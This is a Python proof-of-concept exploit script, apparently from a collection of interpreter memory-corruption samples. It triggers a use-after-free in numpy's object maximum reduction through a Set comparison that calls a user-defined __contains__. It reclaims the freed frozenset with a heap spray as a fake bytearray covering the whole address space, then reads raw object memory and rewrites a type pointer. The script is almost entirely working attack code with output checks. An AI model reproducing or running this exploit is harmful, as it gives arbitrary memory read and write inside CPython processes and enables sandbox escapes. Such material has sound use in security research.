# source: collections/abc.py Set.__ge__ (for elem in other: if elem not in self) and KeysView.__contains__ (key in self._mapping); numpy loops.c.src OBJECT_maximum (borrowed in1/in2, INCREF of the winner after compare)
# family: script __contains__ (unrestricted) reached from a library Set comparison inside numpy's object maximum loop -> use-after-free -> forged bytearray
# goal: dangling reference to a freed frozenset, reclaimed as a fake bytearray over the whole address space; reads raw memory of an object and rewrites its type pointer
import collections.abc
import numpy as np


class Basket:
    def __init__(self, items):
        self.items = tuple(items)

    def __len__(self):
        return len(self.items)

    def __iter__(self):
        return iter(self.items)

    def __contains__(self, x):
        rebalance()
        return False


class Box:
    pass


class Other:
    pass


book = np.empty(2, dtype=object)


def rebalance():
    book[1] = 0


def addr_of_class(k):
    h = hash(k) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def q(n):
    return n.to_bytes(8, "little")


book[0] = collections.abc.KeysView(Basket([1]))
book[1] = frozenset([2])
res = np.maximum.reduce(book)
fake = q(2**40) + q(addr_of_class(bytearray)) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
